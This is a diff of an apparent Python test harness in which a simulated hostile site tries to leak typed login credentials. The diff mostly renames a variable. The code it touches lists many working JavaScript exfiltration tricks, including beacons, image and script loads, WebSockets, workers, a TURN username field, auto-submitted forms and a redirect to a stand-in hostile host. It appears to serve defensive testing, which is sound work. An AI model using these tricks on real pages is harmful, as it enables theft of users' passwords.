@@ -36,37 +36,37 @@ METHODS = ["GET", "POST", "PUT", "DELETE"]
 
 
 class Link(NamedTuple):
-    """Accounts that were linked for good."""
+    """Accounts that were linked permanently."""
 
     how: str
     """The trick by which it was asked for, or `first Submit` or `second Submit`."""
     method: str
 
 
-# What a trick does with `told`, the fields of the form as they stand in an address. Each is a
+# What a trick does with `typed`, the fields of the form as they are in an address. Each is a
 # promise that settles when it is known what came of it.
 AT_HOME: Mapping[str, str] = {
-    "fetch": "fetch(`/link?how=fetch`, {method: 'POST', body: new URLSearchParams(told)})",
-    "fetch by GET": "fetch(`/link?how=fetch by GET&${told}`)",
+    "fetch": "fetch(`/link?how=fetch`, {method: 'POST', body: new URLSearchParams(typed)})",
+    "fetch by GET": "fetch(`/link?how=fetch by GET&${typed}`)",
     "request of old": "asked((done) => { const old = new XMLHttpRequest(); old.onloadend = done;"
-    " old.open('PUT', `/link?how=request of old&${told}`); old.send(); })",
-    "beacon": "later(navigator.sendBeacon(`/link?how=beacon&${told}`))",
-    "image": "loaded('img', {src: `/link?how=image&${told}`})",
-    "script": "loaded('script', {src: `/link?how=script&${told}`})",
-    "style": "loaded('link', {rel: 'stylesheet', href: `/link?how=style&${told}`})",
-    "frame": "loaded('iframe', {src: `/link?how=frame&${told}`})",
-    "stream": "asked((done) => { const all = new EventSource(`/link?how=stream&${told}`);"
+    " old.open('PUT', `/link?how=request of old&${typed}`); old.send(); })",
+    "beacon": "later(navigator.sendBeacon(`/link?how=beacon&${typed}`))",
+    "image": "loaded('img', {src: `/link?how=image&${typed}`})",
+    "script": "loaded('script', {src: `/link?how=script&${typed}`})",
+    "style": "loaded('link', {rel: 'stylesheet', href: `/link?how=style&${typed}`})",
+    "frame": "loaded('iframe', {src: `/link?how=frame&${typed}`})",
+    "stream": "asked((done) => { const all = new EventSource(`/link?how=stream&${typed}`);"
     " all.onerror = () => { all.close(); done(); }; })",
-    "web socket": "asked((done) => { const all = new WebSocket(`/link?how=web socket&${told}`);"
+    "web socket": "asked((done) => { const all = new WebSocket(`/link?how=web socket&${typed}`);"
     " all.onclose = all.onerror = done; })",
-    "worker": "asked((done) => { const code = `fetch('${location.origin}/link?how=worker&${told}')"
+    "worker": "asked((done) => { const code = `fetch('${location.origin}/link?how=worker&${typed}')"
     ".finally(() => postMessage(1))`;"
     " const all = new Worker(URL.createObjectURL(new Blob([code])));"
     " all.onmessage = all.onerror = done; })",
     "service worker": "(async () => { await navigator.serviceWorker.register('/worker.js');"
     " const all = await navigator.serviceWorker.ready; await asked((done) => {"
-    " navigator.serviceWorker.onmessage = done; all.active.postMessage(told); }); })()",
-    "ping": "later(clicked('a', {href: 'javascript:void 0', ping: `/link?how=ping&${told}`}))",
+    " navigator.serviceWorker.onmessage = done; all.active.postMessage(typed); }); })()",
+    "ping": "later(clicked('a', {href: 'javascript:void 0', ping: `/link?how=ping&${typed}`}))",
 }
 """Tricks that leave the page where it is."""
 
@@ -75,11 +75,11 @@ AWAY: Mapping[str, str] = {
     "form by GET": "sent({method: 'GET', action: '/link'})",
     "form in a pop-up": "sent({method: 'POST', action: '/link?how=form in a pop-up',"
     " target: '_blank'})",
-    "pop-up": "later(window.open(`/link?how=pop-up&${told}`))",
-    "download": "later(clicked('a', {href: `/link?how=download&${told}`, download: 'it'}))",
-    "address": "later(location.assign(`/link?how=address&${told}`))",
-    "redirect": "later(location.assign(`/onward?how=redirect&${told}`))",
-    "refresh": "loaded('meta', {httpEquiv: 'refresh', content: `0;url=/link?how=refresh&${told}`},"
+    "pop-up": "later(window.open(`/link?how=pop-up&${typed}`))",
+    "download": "later(clicked('a', {href: `/link?how=download&${typed}`, download: 'it'}))",
+    "address": "later(location.assign(`/link?how=address&${typed}`))",
+    "redirect": "later(location.assign(`/onward?how=redirect&${typed}`))",
+    "refresh": "loaded('meta', {httpEquiv: 'refresh', content: `0;url=/link?how=refresh&${typed}`},"
     " document.head)",
     "other host": "sent({method: 'POST', action: 'http://other.hostile.localhost:' + location.port"
     " + '/link?how=other host'})",
@@ -88,7 +88,7 @@ AWAY: Mapping[str, str] = {
 
 CALL = (
     "(async () => { const all = new RTCPeerConnection({iceServers: [{credential: 'x', "
-    "urls: 'turn:127.0.0.1:%d?transport=tcp', username: told.slice(0, 200)}]}); "
+    "urls: 'turn:127.0.0.1:%d?transport=tcp', username: typed.slice(0, 200)}]}); "
     "all.createDataChannel('x'); await all.setLocalDescription(await all.createOffer()); "
     "await later(); })()"
 )
@@ -117,7 +117,7 @@ const clicked = (tag, has) => {
 };
 const sent = (has) => {
   const own = made('form', has);
-  const how = Object.fromEntries(new URLSearchParams(told));
+  const how = Object.fromEntries(new URLSearchParams(typed));
   own.hidden = true;
   for (const [name, value] of Object.entries({...how, how: NAME})) {
     own.append(made('input', {name, value}));
@@ -141,7 +141,7 @@ class Trick:
     """What the court does that an honest one does not."""
 
     on_input: tuple[str, ...] = ()
-    """What the link form does as soon as login and password stand in it (names of `TRICKS`)."""
+    """What the link form does as soon as login and password are in it (names of `TRICKS`)."""
     on_load: bool = False
     """The link form, filled by the court itself, sends itself as soon as it is there."""
     links_at_once: bool = False
@@ -157,7 +157,7 @@ class Trick:
     confirmation: tuple[str, ...] = ()
     """What the confirmation does over and over, to link a second pair (of `TRICKS`)."""
     sent_on: str = ""
-    """Which form is not taken but sent on, with all that stands in it: `/enter` or `/verify`."""
+    """Which form is not taken but sent on, with all that is in it: `/enter` or `/verify`."""
     sent_on_by: int = 307
     """The status of that answer."""
     sent_on_to: str = "http://other.hostile.localhost:{port}/caught"
@@ -262,12 +262,12 @@ class HostileCourt(IndependentCourt):
         )
 
     async def link(self, request: Request) -> Response:
-        """Link the accounts if whoever asks has what that takes."""
+        """Link the accounts if the request has what that takes."""
         async with request.form() as form:
-            told = {**request.query_params, **{name: str(form[name]) for name in form}}
-        is_right = self._is_right(told.get("login", ""), told.get("key", ""))
-        if is_right or told.get("token"):
-            self.links.append(Link(told.get("how", "second Submit"), request.method))
+            typed = {**request.query_params, **{name: str(form[name]) for name in form}}
+        is_right = self._is_right(typed.get("login", ""), typed.get("key", ""))
+        if is_right or typed.get("token"):
+            self.links.append(Link(typed.get("how", "second Submit"), request.method))
         return RedirectResponse("/linked", 303)
 
     async def linked(self, _: Request) -> Response:
@@ -319,13 +319,13 @@ def _script(begin: str, names: tuple[str, ...]) -> str:
     )
     return f"""<script>
 const form = document.forms[0];
-let told = '', isPlaying = false;
+let typed = '', isPlaying = false;
 const tried = () => {{
   const has = new FormData(form);
   // With what a walk enters to try Clear nobody can be linked.
   if (isPlaying || [...has.values()].some((value) => !value || value === 'probe')) return;
   isPlaying = true;
-  told = new URLSearchParams(has).toString();
+  typed = new URLSearchParams(has).toString();
   window.played = (async () => {{ {played} isPlaying = false; return true; }})();
 }};
 {begin};
